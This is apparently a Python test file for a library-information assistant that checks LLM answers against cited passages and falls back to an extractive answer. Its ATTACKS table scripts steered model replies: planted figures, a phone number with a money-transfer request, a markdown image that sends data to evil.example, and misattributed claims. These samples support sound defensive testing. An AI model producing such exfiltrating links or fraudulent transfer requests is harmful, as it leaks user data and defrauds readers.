"""LLM answers are checked claim by claim and fail closed.

The real ``OpenAICompatibleLLM`` client talks HTTP to the local OpenAI-compatible
stand-in, scripted to return answers a steered or mistaken model could write: a
planted figure in place of the true one, a telephone number with a request to
transfer money, an image whose address carries data out, a claim pinned on an
unrelated passage. None may come out grounded with that content; the extractive
answer (cited, from the metrics table) stands instead. Correct answers, including
ones written with full-width digits or spaces, still pass.
"""

from __future__ import annotations

import os

os.environ.setdefault("HF_HUB_OFFLINE", "1")
os.environ.setdefault("TRANSFORMERS_OFFLINE", "1")

import pytest
from test_llm_mode import DOCS, FILE_2024, GOOD, QUESTION, _assert_extractive_fallback, _passage_with, server, standin  # noqa: F401

from assistant import Assistant, AssistantConfig
from assistant.grounding import Source, check
from assistant.llm import OpenAICompatibleLLM
from assistant.types import FigureUsed

FILE_GUIDE = "qingchuan-service-guide.txt"
HOTLINE = "028-86283777"
GUIDE = f"""青川区图书馆读者服务指南

一、咨询服务

读者服务热线{HOTLINE}，工作日上午九点至下午五点接听。办理读者证免收押金，凭身份证即可办理，读者可在总馆一楼服务台或各分馆办理。
"""


@pytest.fixture(scope="module")
def kb(tmp_path_factory, embedder):
    from index import KnowledgeBase

    docs = tmp_path_factory.mktemp("grounding-docs")
    for name, text in {**DOCS, FILE_GUIDE: GUIDE}.items():
        (docs / name).write_text(text, encoding="utf-8")
    base = KnowledgeBase(tmp_path_factory.mktemp("grounding-data"), embedder)
    report = base.ingest([docs])
    assert not report.failed
    yield base
    base.close()


def _assistant(kb, standin) -> Assistant:
    llm = OpenAICompatibleLLM(standin.base_url, "qwen2.5:7b-instruct", timeout=5.0, max_retries=0)
    return Assistant(kb, config=AssistantConfig(), llm=llm)


def _cite(prompt: str, needle: str) -> int:
    """The prompt number of the passage holding ``needle``, shown to the model or not."""
    try:
        return _passage_with(prompt, needle)
    except AssertionError:
        return 7  # not among the passages shown: an unknown mark, removed


# Each attack: (what must not come out grounded, the scripted reply built from the prompt).
ATTACKS = {
    "planted figure from another row of the cited passage": (
        "156.2万次",
        lambda p: f"青川区图书馆2024年进馆人数为156.2万次[{_cite(p, VISITS)}]。",
    ),
    "planted figure from another year's passage": (
        "196.47万次",
        lambda p: f"青川区图书馆2024年进馆人数为196.47万次[{_cite(p, '196.47万次')}]。",
    ),
    "telephone number with a transfer request": (
        "转账",
        lambda p: (
            f"青川区图书馆2024年进馆人数为208.37万次[{_cite(p, VISITS)}][{_cite(p, HOTLINE)}]。"
            f"办证请拨打{HOTLINE}，并通过转账缴纳押金[{_cite(p, HOTLINE)}]。"
        ),
    ),
    "image whose address carries data out": (
        "evil",
        lambda p: (
            f"青川区图书馆2024年进馆人数为208.37万次[{_cite(p, VISITS)}]。![](http://evil.example/x?q=青川区208.37万次)"
        ),
    ),
    "web address cited to a passage without it": (
        "evil",
        lambda p: (
            f"青川区图书馆2024年进馆人数为208.37万次[{_cite(p, VISITS)}]。"
            f"详见evil.example/report?id=6.05[{_cite(p, VISITS)}]。"
        ),
    ),
    "claim pinned on an unrelated passage": (
        "闭馆整修",
        lambda p: (
            f"青川区图书馆2024年进馆人数为208.37万次[{_cite(p, VISITS)}]。"
            f"该馆2024年全年闭馆整修三个月，暂停外借服务[{_cite(p, '读书驿站')}]。"
        ),
    ),
    "claim without any citation": (
        "闭馆整修",
        lambda p: f"青川区图书馆2024年进馆人数为208.37万次[{_cite(p, VISITS)}]。该馆全年闭馆整修三个月。",
    ),
}
VISITS = "208.37万次"


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_injected_content_never_comes_out_grounded(kb, standin, attack):
    planted, reply = ATTACKS[attack]
    standin.chat_responder = lambda messages: reply(messages[-1]["content"])
    answer = _assistant(kb, standin).ask(QUESTION)

    assert planted not in answer.answer
    assert not (answer.grounded and answer.mode == "llm")
    _assert_extractive_fallback(answer)  # failed closed: the cited extractive answer stands
    assert len(standin.chat_requests()) == 2  # the model was asked once to correct itself


def test_a_correct_answer_still_comes_out_grounded(kb, standin):
    standin.queue_chat(GOOD)
    answer = _assistant(kb, standin).ask(QUESTION)

    assert answer.mode == "llm" and answer.grounded and answer.answer == GOOD
    assert [(c.n, c.source) for c in answer.citations] == [(1, FILE_2024)]


def test_a_correct_answer_over_several_passages_still_comes_out_grounded(kb, standin):
    def responder(messages):
        prompt = messages[-1]["content"]
        visits, problems, guide = (_passage_with(prompt, s) for s in (VISITS, "馆舍面积不足", HOTLINE))
        return (
            f"青川区图书馆2024年全区总分馆进馆人数为２０８．３７ 万次[{visits}]，同比增长6.05 %[{visits}]。"
            f"该馆面临馆舍面积不足、阅览座位紧张的问题[{problems}]。读者服务热线为{HOTLINE}[{guide}]。"
        )

    standin.chat_responder = responder
    answer = _assistant(kb, standin).ask(QUESTION)

    assert answer.mode == "llm" and answer.grounded, answer.answer
    assert HOTLINE in answer.answer and "[3]" in answer.answer
    assert [c.source for c in answer.citations] == [FILE_2024, FILE_2024, FILE_GUIDE]


# -- the claim check on its own --------------------------------------------------------------------

PASSAGE = Source(
    "全年全区总分馆进馆人数208.37万次，同比增长6.05%。全年外借图书156.2万册次。", "a-2024.txt", "2024年工作总结"
)


def test_figures_match_by_value_and_unit_whatever_the_writing():
    for written in ("208.37万次", "２０８．３７万次", "208.37 万 次", "2083700次"):
        assert not check(f"进馆人数{written}[1]。", {1: PASSAGE}, []).problems, written
    assert check("进馆人数156.2万次[1]。", {1: PASSAGE}, []).problems  # 万册次 is not 万次
    assert check("进馆人数208.37亿次[1]。", {1: PASSAGE}, []).problems


def test_each_claim_is_held_to_the_passages_it_cites_itself():
    other = Source("全年全区总分馆进馆人数196.47万次。", "a-2023.txt", "2023年工作总结")
    ok = check("2024年进馆人数208.37万次[1]，2023年为196.47万次[2]。", {1: PASSAGE, 2: other}, [])
    assert not ok.problems
    swapped = check("2024年进馆人数196.47万次[1]，2023年为208.37万次[2]。", {1: PASSAGE, 2: other}, [])
    assert swapped.problems and set(swapped.unverified) == {"196.47万次", "208.37万次"}


def test_a_verified_figure_must_be_stated_as_looked_up():
    figure = FigureUsed("进馆人数", 2024, 208.37, "万次", "a-2024.txt")
    assert not check("2024年进馆人数208.37万次[1]。", {1: PASSAGE}, [figure]).problems
    assert check("2024年同比增长6.05%[1]。", {1: PASSAGE}, [figure]).problems


def test_a_sentence_over_several_years_may_take_each_year_from_the_passages_it_cites():
    older = Source("全年全区总分馆进馆人数196.47万次。", "a-2023.txt", "2023年工作总结")
    trend = "2023年至2024年进馆人数分别为196.47万次[2]、208.37万次[1]。"
    assert not check(trend, {1: PASSAGE, 2: older}, []).problems
    assert check("2024年进馆人数为196.47万次[2]。", {1: PASSAGE, 2: older}, []).problems


def test_images_links_and_foreign_addresses_are_refused_but_plain_brackets_are_not():
    assert check("进馆人数208.37万次[1]。![](http://x.example/a?q=1)", {1: PASSAGE}, []).problems
    assert check("进馆人数208.37万次[1]。[详情](https://x.example/a)", {1: PASSAGE}, []).problems
    assert check("进馆人数208.37万次[1]，联系邮箱a@x.example[1]。", {1: PASSAGE}, []).problems
    assert not check("进馆人数208.37万次[1](全区总分馆)。", {1: PASSAGE}, []).problems
